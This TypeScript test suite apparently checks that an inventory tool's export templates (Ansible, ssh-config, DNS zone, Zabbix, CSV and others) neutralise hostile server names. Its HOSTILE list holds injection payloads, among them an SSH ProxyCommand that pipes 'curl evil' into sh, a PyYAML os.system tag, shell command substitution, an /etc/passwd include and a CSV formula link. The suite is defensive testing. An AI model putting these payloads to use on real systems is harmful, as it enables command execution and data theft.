/** Templates 2, 5: what came with the release, read by the tools themselves where they are there, with hostile names. @seconds 20 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ENGINES } from '../support/engines.js';
import { TestServer } from '../support/server.js';

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- files of other tools, of every shape
type Json = any;

/** Names that would be something else in one of the files. */
const HOSTILE = [
  'web01',
  'Web 01',
  'x\nProxyCommand curl evil|sh',
  'y\r\n$INCLUDE /etc/passwd',
  '!!python/object/apply:os.system ["id"]',
  '&anchor *anchor',
  '$(touch /tmp/x) `id` ${HOME} $IP$',
  '"double" \'single\' “curly” \\back\\',
  '=HYPERLINK("http://evil")',
  '{{ objects }} {% raw %}',
  'a: b\n- c',
  'db[01:50].example.org',
  '}\nobject Host "evil" {',
  'é\u2028\u0085\u007f\u202eright',
  '日本',
  '---',
  '#',
];
const NETWORK = HOSTILE.map((_, i) => `10.0.0.${i + 1}, fd00::${i + 1}`);

/** What a program answers; undefined where it is not there, which is shown. */
function run(program: string, args: string[], input?: string): { status: number | null; out: string } | undefined {
  const { error, status, stdout, stderr } = spawnSync(program, args, { encoding: 'utf8', input, timeout: 20_000 });
  if (error) return void console.warn(`${program} is not there: not tried.`);
  return { status, out: stdout + stderr };
}

/** YAML as PyYAML reads it, the reader of Ansible; as JSON. */
function pythonYaml(text: string): Json {
  const program =
    'import sys, json, yaml\n' +
    'def pairs(loader, node, deep=False):\n' +
    '  keys = [loader.construct_object(k) for k, _ in node.value]\n' +
    '  assert len(keys) == len(set(keys)), "a key stands twice"\n' +
    '  return yaml.SafeLoader.construct_mapping(loader, node, deep)\n' +
    'class L(yaml.SafeLoader): pass\n' +
    'L.add_constructor("tag:yaml.org,2002:map", lambda l, n: pairs(l, n, True))\n' +
    // Ansible's own: a text in which nothing is run.
    'L.add_constructor("!unsafe", lambda l, n: l.construct_scalar(n))\n' +
    'print(json.dumps(list(yaml.load_all(sys.stdin.buffer.read().decode("utf8"), Loader=L))))';
  const python = run('/usr/bin/python3', ['-c', program], text) ?? run('python3', ['-c', program], text);
  if (!python || /No module named/.test(python.out)) return undefined;
  expect([python.status, python.out]).toEqual([0, expect.any(String)]);
  return JSON.parse(python.out);
}

describe.each(ENGINES)('templates 5: those that came with the release on %s', (engine) => {
  let server: TestServer;
  let folder: string;
  let stored: string[];
  const fill = async (key: string, query = ''): Promise<string> => {
    const { status, body } = await server.get(`/api/templates/${key}/fill${query}`);
    expect([key, status]).toEqual([key, 200]);
    return typeof body === 'string' ? body : JSON.stringify(body);
  };
  const file = (name: string, text: string): string => {
    const path = join(folder, name);
    writeFileSync(path, text);
    return path;
  };

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'templates-'));
    server = await TestServer.start(engine);
    const made = async (path: string, body: object): Promise<number> => {
      const answer = await server.post(`/api/${path}`, body);
      expect([answer.status, answer.body.errors]).toEqual([201, undefined]);
      return answer.body.id;
    };
    const domain = await made('domains', { name: 'corp: "x"\n!!y' });
    const cluster = await made('clusters', { name: '$(c)\nd: e' });
    for (const [i, name] of HOSTILE.entries())
      await made('logical-servers', {
        ...{ name, address_ip: NETWORK[i], environment: i % 2 ? 'Prod\nuction: [' : null },
        ...{
          operating_system: i ? name : `Windows ${name}`,
          domain_id: i % 3 ? domain : null,
          clusters: i % 4 ? [] : [cluster],
        },
      });
    await made('logical-servers', { name: 'no address' });
    const block = await made('application-blocks', { name: 'Block "b"\n}' });
    const database = await made('databases', { name: '*db: &x\n- y' });
    const ids: number[] = [];
    for (const [i, name] of HOSTILE.entries())
      ids.push(await made('applications', { name, application_block_id: i % 2 ? block : null, databases: [database] }));
    await made('application-flows', {
      ...{ name: 'flow "f"\n}\\', application_source_id: ids[0], application_dest_id: ids[1] },
    });
    const servers = (await server.get('/api/logical-servers?sort=name')).body;
    stored = servers.map(({ name }: { name: string }) => name);
    for (const name of HOSTILE)
      await made('logical-flows', {
        ...{ name, logical_server_source_id: servers[0].id, source_ip_range: '10.0.0.1', dest_ip_range: '10.0.0.2' },
        ...{ dest_port: '443', protocol: name, description: name },
      });
  });
  afterAll(async () => {
    rmSync(folder, { recursive: true });
    await server.stop();
  });

  it('ansible-inventory is an inventory, with these hosts and no other key', async () => {
    const [inventory] = pythonYaml(await fill('ansible-inventory')) ?? [];
    if (!inventory) return;
    expect(Object.keys(inventory)).toEqual(['all']);
    expect(Object.keys(inventory.all).sort()).toEqual(['children', 'hosts']);
    const hosts = Object.entries<Json>(inventory.all.hosts);
    expect(hosts.map(([, { meridian_name: name }]) => name)).toEqual(stored);
    for (const [host, vars] of hosts) {
      expect(host).toMatch(/^[a-z0-9]([a-z0-9.-]*[a-z0-9])?$/);
      expect(Object.keys(vars).filter((key) => !/^(ansible_host|meridian_(id|name|os))$/.test(key))).toEqual([]);
    }
    const groups = Object.entries<Json>(inventory.all.children);
    expect(groups.map(([name]) => name.replace(/\d+/, 'N'))).toEqual([
      ...['from_meridian', 'env_prod_uction', 'domain_N_corp_x_y', 'cluster_N_c_d_e'],
    ]);
    for (const [, group] of groups) {
      expect(Object.keys(group)).toEqual(['hosts']);
      expect(Object.keys(group.hosts).filter((host) => !(host in inventory.all.hosts))).toEqual([]);
    }
    expect(Object.keys(inventory.all.children.env_prod_uction.hosts)).toHaveLength(Math.floor(HOSTILE.length / 2));
  });

  it('what people wrote is run by no Ansible, and no server takes the place of this machine', async () => {
    const run_ = "{{ lookup('pipe', 'id') }}";
    const ids: number[] = [];
    for (const one of [
      { name: run_, operating_system: run_ },
      { name: 'localhost' },
      { name: 'ALL', environment: '*' },
    ])
      ids.push((await server.post('/api/logical-servers', { ...one, address_ip: '10.9.9.7' })).body.id);
    const inventory = await fill('ansible-inventory', `?filter[id_in]=${ids.join()}`);
    expect(inventory.match(/meridian_(?:name|os): .*\{\{.*/g)).toEqual([
      `meridian_name: !unsafe "${run_}"`,
      `meridian_os: !unsafe "${run_}"`,
    ]);
    expect(inventory.match(/^    "?[a-z].*: *$/gm)!.map((one) => one.trim())).toEqual(
      expect.arrayContaining([`"localhost-${ids[1]}":`, `"all-${ids[2]}":`, 'env_unnamed:']),
    );
    expect(await fill('hosts-file', `?filter[id]=${ids[1]}`)).toMatch(
      new RegExp(`10\\.9\\.9\\.7 localhost-${ids[1]}\n`),
    );
    for (const id of ids) await server.delete(`/api/logical-servers/${id}`);
  });

  it('prometheus-targets is what http_sd asks for, and promtool takes it', async () => {
    const text = await fill('prometheus-targets');
    const targets = JSON.parse(text);
    expect(targets.map(({ labels }: Json) => labels.name)).toEqual(stored.filter((name) => name !== 'no address'));
    for (const {
      targets: [target, ...more],
      labels,
      ...rest
    } of targets) {
      const port = labels.os.startsWith('Windows') ? 9182 : 9100;
      expect([more, rest, target]).toEqual([[], {}, expect.stringMatching(`^10\\.0\\.0\\.\\d+:${port}$`)]);
      expect(Object.keys(labels)).toEqual(['__meta_meridian_id', 'name', 'environment', 'os']);
    }
    expect(targets.filter(({ labels }: Json) => labels.os.startsWith('Windows'))).toHaveLength(1);
    file('targets.json', text);
    const config = 'scrape_configs:\n- job_name: m\n  file_sd_configs: [{files: [targets.json]}]\n';
    const told = run('promtool', ['check', 'config', file('prometheus.yml', config)]);
    if (told) expect(told).toMatchObject({ status: 0 });
    expect(await fill('prometheus-targets', '?filter[name]=nobody')).toBe('[]');
    const { headers } = await server.get('/api/templates/prometheus-targets/fill');
    expect(headers.get('content-type')).toBe('application/json; charset=utf-8');
  });

  it('zabbix-hosts is an import of Zabbix 7', async () => {
    const [read] = pythonYaml(await fill('zabbix-hosts')) ?? [];
    if (!read) return;
    const { zabbix_export: all } = read;
    expect([Object.keys(all), all.version]).toEqual([['version', 'host_groups', 'hosts'], '7.0']);
    expect(new Set(all.hosts.map(({ host }: Json) => host)).size).toBe(HOSTILE.length);
    for (const host of all.hosts) {
      expect(Object.keys(host)).toEqual(['host', 'name', 'groups', 'interfaces', 'tags', 'inventory_mode']);
      expect([host.host, host.name]).toEqual([
        expect.stringMatching(/^[\w. -]{1,128}$/),
        expect.not.stringMatching(/\n/),
      ]);
    }
    const [none] = pythonYaml(await fill('zabbix-hosts', '?filter[name]=nobody'));
    expect(none.zabbix_export.hosts).toEqual([]);
  });

  it('hosts-file and ssh-config hold addresses and names, line by line', async () => {
    const lines = (await fill('hosts-file')).split('\n').slice(1, -1);
    expect(lines).toHaveLength(2 * HOSTILE.length);
    for (const line of lines) expect(line).toMatch(/^(10\.0\.0\.\d+|fd00::\d+) [a-z0-9][a-z0-9.-]*$/);
    const config = await fill('ssh-config');
    expect(
      config.split('\n').filter((line) => !/^(#.*|Host [a-z0-9][a-z0-9.-]*| {2}HostName 10\.0\.0\.\d+|)$/.test(line)),
    ).toEqual([]);
    const asked = run('ssh', ['-G', '-F', file('config', config), 'web01']);
    if (!asked) return;
    expect(asked.status).toBe(0);
    expect(asked.out).toMatch(/^hostname 10\.0\.0\.1$/m);
    expect(asked.out).not.toMatch(/^proxycommand/m);
  });

  it('dns-zone is a zone for named-checkzone', async () => {
    const zone = await fill('dns-zone');
    const checked = run('named-checkzone', ['meridian.example', file('zone', zone)]);
    if (checked) expect(checked).toEqual({ status: 0, out: expect.stringMatching(/OK\s*$/) });
    const records = zone.split('\n').filter((line) => / IN (A|AAAA) /.test(line));
    expect(records).toHaveLength(2 * HOSTILE.length);
    expect(zone.match(/^\$/gm)).toEqual(['$']);
  });

  it('icinga-hosts holds objects of hosts and nothing else', async () => {
    const text = await fill('icinga-hosts');
    expect(text.match(/^object Host "[a-z0-9.-]+" \{$/gm)).toHaveLength(HOSTILE.length);
    const known =
      /^(\/\/.*|object Host "[a-z0-9.-]+" \{|\}|| {2}(import "generic-host"|address6? = "[0-9a-f.:]+"|display_name = "([^"\\]|\\.)*"|vars\.meridian_id = \d+|vars\.environment = "([^"\\]|\\.)*"))$/;
    expect(text.split('\n').filter((line) => !known.test(line))).toEqual([]);
  });

  it('flow-matrix-csv has the addresses of its ends where the flow itself says none', async () => {
    const made = async (path: string, body: object): Promise<number> =>
      (await server.post(`/api/${path}`, body)).body.id;
    const network = await made('subnetworks', { name: 'Ward', address: '10.9.0.0/24' });
    const desk = await made('workstations', { name: 'PC-1', address_ip: '10.9.0.7' });
    await made('logical-flows', {
      name: 'a',
      workstation_source_id: desk,
      subnetwork_dest_id: network,
      protocol: 'own',
    });
    await made('logical-flows', {
      ...{ name: 'b', workstation_source_id: desk, subnetwork_dest_id: network, protocol: 'own' },
      ...{ source_ip_range: '10.9.0.8', dest_ip_range: '10.9.0.9' },
    });
    const rows = (await fill('flow-matrix-csv', '?filter[protocol]=own')).split('\n').slice(1, -1);
    expect(rows.map((row) => row.split(',').slice(0, 4))).toEqual([
      ['"PC-1"', '"10.9.0.7"', '"Ward"', '"10.9.0.0/24"'],
      ['"PC-1"', '"10.9.0.8"', '"Ward"', '"10.9.0.9"'],
    ]);
    for (const { id } of (await server.get('/api/logical-flows?protocol=own')).body)
      await server.delete(`/api/logical-flows/${id}`);
  });

  it('flow-matrix-csv has one row for each flow, guarded against formulas', async () => {
    const text = await fill('flow-matrix-csv');
    const program =
      'import sys, csv, json\nprint(json.dumps(list(csv.reader(open(sys.argv[1], newline="", encoding="utf8")))))';
    const read = run('/usr/bin/python3', ['-c', program, file('flows.csv', text)]);
    if (!read) return;
    const [heading, ...rows] = JSON.parse(read.out) as string[][];
    expect(heading).toHaveLength(9);
    expect(rows.filter((row) => row.length > 0 && row.length !== 9)).toEqual([]);
    expect(rows.map((row) => row[5]).filter((cell) => /^[=@]/.test(cell!))).toEqual([]);
    expect(rows.map((row) => row[5])).toEqual(
      (await server.get('/api/logical-flows?sort=id')).body.map(({ protocol }: Json) =>
        protocol.startsWith('=') ? `'${protocol}` : protocol,
      ),
    );
  });

  it('backstage-catalog is entities of a catalogue', async () => {
    const entities = pythonYaml(await fill('backstage-catalog'));
    if (!entities) return;
    const documents = entities.filter(Boolean);
    const names = (kind: string) =>
      documents.filter((one: Json) => one.kind === kind).map(({ metadata }: Json) => metadata.name);
    expect([names('System').length, names('Component').length, names('Resource').length]).toEqual([
      1,
      HOSTILE.length,
      1,
    ]);
    expect(new Set(names('Component')).size).toBe(HOSTILE.length);
    const owners = new Set(['apiVersion', 'kind', 'metadata', 'spec']);
    for (const { apiVersion, metadata, spec, ...rest } of documents) {
      expect([apiVersion, Object.keys(rest).filter((key) => !owners.has(key))]).toEqual(['backstage.io/v1alpha1', []]);
      expect(metadata.name).toMatch(/^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$/);
      if (spec.system) expect(names('System')).toContain(spec.system);
      for (const one of spec.dependsOn ?? []) expect(names('Resource')).toContain(one.replace('resource:default/', ''));
    }
  });

  it('structurizr-dsl holds systems and their relations, with texts on their lines', async () => {
    const text = await fill('structurizr-dsl');
    const known =
      /^\s*(workspace "Meridian" "Made on [\d-]+" \{|model \{|views \{|systemLandscape \{|include \*|autoLayout|\}|group "([^"\\]|\\")*" \{|a\d+ = softwareSystem "([^"\\]|\\")+"|a\d+ -> a\d+ "([^"\\]|\\")+"|)$/;
    expect(text.split('\n').filter((line) => !known.test(line))).toEqual([]);
    expect(text.match(/softwareSystem/g)).toHaveLength(HOSTILE.length);
    expect(text.match(/ -> /g)).toHaveLength(1);
  });
});
